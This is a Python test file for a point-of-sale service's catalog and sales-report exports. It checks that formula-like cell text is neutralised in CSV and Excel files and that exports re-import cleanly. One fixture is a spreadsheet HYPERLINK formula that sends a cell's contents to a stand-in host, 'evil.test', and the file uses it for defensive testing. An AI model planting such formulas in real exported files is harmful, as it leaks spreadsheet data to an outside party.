"""Exports never hand a spreadsheet a formula: a text cell starting with = + - @, a tab
or a carriage return gets the leading ' that marks it as text (so does one starting
with '), Excel cells of text are strings, plain numbers stay numbers, and the catalog
file still imports back unchanged. The catalog export shows what outlets sell unless
asked for the products still waiting for approval."""
import csv
import io

import pytest
from openpyxl import load_workbook

from cloud.extensions import db
from cloud.models import Outlet
from cloud.services import enrollment
from cloud.services.spreadsheets import safe_text
from sync.ids import new_uuid
from tests.cloud.test_role_matrix import enroll_device, event, order_payload, push

FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"Click")'
NAMES = [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\tTabbed", "\rReturned", "'Quoted", "Plain Pie"]


@pytest.mark.parametrize("value, shown", [(FORMULA, "'" + FORMULA), ("-1500.00", "-1500.00"), ("+62812", "+62812"),
                                          ("-", "'-"), ("'x", "''x"), ("Pie", "Pie"), (12, 12), ("", "")])
def test_a_cell_value_is_neutralised_only_when_a_spreadsheet_would_run_it(value, shown):
    assert safe_text(value) == shown


def _products(client, world, names):
    owner = world.headers("tenant_owner")
    for index, name in enumerate(names):
        response = client.post("/api/products/", headers=owner, json={
            "sku": f"FX-{index}", "name": name, "category_id": world.a.category_id, "price": "1000.00"})
        assert response.status_code == 201, response.json


def _csv_rows(response):
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


def _xlsx_rows(response):
    sheet = load_workbook(io.BytesIO(response.data)).active
    header = [cell.value for cell in sheet[1]]
    return [dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2)]


def test_the_catalog_csv_marks_formula_like_names_as_text(client, world):
    _products(client, world, NAMES)
    rows = _csv_rows(client.get("/api/products/export/?format=csv", headers=world.headers("manager")))
    names = {row["sku"]: row["name"] for row in rows}
    assert [names[f"FX-{i}"] for i in range(len(NAMES))] == [
        "'" + FORMULA, "'+1+1", "'-2+3", "'@SUM(A1)", "'\tTabbed", "'\rReturned", "''Quoted", "Plain Pie"]


def test_the_catalog_excel_file_stores_every_name_as_a_string(client, world):
    _products(client, world, NAMES)
    cells = {row["sku"].value: row["name"] for row in
             _xlsx_rows(client.get("/api/products/export/?format=xlsx", headers=world.headers("manager")))}
    assert cells["FX-0"].data_type == "s" and cells["FX-0"].value == "'" + FORMULA
    assert all(cell.data_type == "s" for cell in cells.values())


def test_an_exported_catalog_imports_back_unchanged(client, world):
    _products(client, world, NAMES)
    manager = world.headers("tenant_owner")
    exported = client.get("/api/products/export/?format=csv", headers=manager).data
    result = client.post("/api/products/import/", data={"file": (io.BytesIO(exported), "products.csv")},
                         content_type="multipart/form-data", headers=manager)
    assert result.status_code == 200 and result.json["updated"] == 0 and result.json["created"] == 0, result.json


def test_the_products_report_marks_formula_like_names_as_text(app, client, world):
    with app.app_context():
        key, _ = enrollment.issue_key(db.session, db.session.get(Outlet, world.a.outlet_id), None)
        db.session.commit()
    _, _, access = enroll_device(client, key, "till")
    sold = order_payload(world.a.outlet_id, "AA1-261120-1-0001", world.a.product_id, product=(FORMULA, "FX-SOLD"))
    paid = {"uuid": new_uuid(), "order_uuid": sold["uuid"], "terminal": 1, "method": "cash", "amount": "95000.00",
            "tendered": "95000.00", "change_amount": "0.00", "status": "paid", "reference": "",
            "created_at": "2026-11-20T10:05:00Z"}  # the report counts what was paid in the range
    answers = push(client, access, [event(1, "order.snapshot", sold), event(2, "payment.recorded", paid)])
    assert [a["status"] for a in answers] == ["applied", "applied"], answers
    query = "date_from=2026-11-01&date_to=2026-11-30"
    csv_rows = _csv_rows(client.get(f"/api/analytics/products/export/?format=csv&{query}",
                                    headers=world.headers("manager")))
    assert [row["name"] for row in csv_rows] == ["'" + FORMULA]
    (xlsx_row,) = _xlsx_rows(client.get(f"/api/analytics/products/export/?format=xlsx&{query}",
                                        headers=world.headers("manager")))
    assert (xlsx_row["name"].data_type, xlsx_row["name"].value) == ("s", "'" + FORMULA)
    assert xlsx_row["revenue"].data_type == "n"  # money stays a number


def test_the_catalog_export_shows_approved_products_unless_asked(client, world):
    manager, owner = world.headers("manager"), world.headers("tenant_owner")
    new = client.post("/api/products/", headers=manager, json={
        "sku": "WAIT-1", "name": "Waiting Pie", "category_id": world.a.category_id, "price": "5000.00"})
    assert new.json["status"] == "pending_approval"
    repriced = client.patch(f"/api/products/{world.a.product_id}/", json={"price": "99999.00"}, headers=manager)
    assert repriced.json["pending_changes"]["price"] == "99999.00"

    plain = {row["sku"]: row for row in _csv_rows(client.get("/api/products/export/", headers=owner))}
    assert "WAIT-1" not in plain
    assert plain["AA-PZ"]["price"] == "95000.00" and "pending_price" not in plain["AA-PZ"]

    everything = {row["sku"]: row for row in _csv_rows(
        client.get("/api/products/export/?include_pending=true", headers=owner))}
    assert everything["WAIT-1"]["status"] == "pending_approval"
    assert (everything["AA-PZ"]["price"], everything["AA-PZ"]["pending_price"]) == ("95000.00", "99999.00")


def test_an_import_row_longer_than_the_header_is_no_server_error(client, world):
    upload = {"file": (io.BytesIO(b"sku,name,category,price\nX-1,Pie,Pies,1.00,extra,cells\n"), "menu.csv")}
    response = client.post("/api/products/import/", data=upload, content_type="multipart/form-data",
                           headers=world.headers("manager"))
    assert response.status_code == 200 and response.json["created"] == 1
